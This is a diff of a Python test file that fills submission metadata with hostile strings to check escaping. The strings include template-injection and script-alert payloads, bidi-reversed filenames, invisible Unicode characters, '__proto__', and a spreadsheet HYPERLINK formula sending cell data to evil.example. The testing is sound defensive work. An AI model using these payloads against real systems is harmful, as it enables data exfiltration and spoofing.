@@ -32,6 +32,7 @@ TEXTS = {
     "template": "{{ 7*7 }}{% raw %}${7*7}`alert(1)`<evil-mark>",
     "lines of JavaScript": "\u2028alert(1)\u2029*/alert(2)/*<evil-mark>\\u003cevil-mark\\u003e\\",
     "other direction": "\u202egnp.exe\u202c \u2066safe\u2069 \u200b\u200f\ufeff<evil-mark>",
+    "nothing to see": "a\u00ad\u034f\u115f\u180e\u3164\uffa0\U000e0001\U000e0041\U000e007f<evil-mark>",
     "control characters": "a\x00b\x1b[31m\x07\x7f\x85<evil-mark>",
     "names of objects": "__proto__",
     "formula": '=HYPERLINK("https://evil.example/?"&A1;"evil-mark")',
@@ -43,9 +44,10 @@ TEXTS = {
 
 def fill(folder, text):
     """Put a text wherever a submission may hold one of its own, in all files."""
-    short = text[:200]
+    name = f"{text[:190]} as name"
     about = yaml.safe_load((folder / "submission.yaml").read_text(encoding="utf-8"))
-    about |= {"name": short, "adapter": text, "decoding": {text: text}, "harness": text, "own_words": [text]}
+    about |= {"created": "2026-03-01T00:00:00Z", "name": name, "adapter": text, "decoding": {text: text}}
+    about |= {"harness": text, "own_words": [text]}
     about["model"] |= {"name": text, "revision": text}
     (folder / "submission.yaml").write_text(yaml.safe_dump(about, allow_unicode=True), encoding="utf-8")
     scores = json.loads((folder / "scores.json").read_text(encoding="utf-8"))
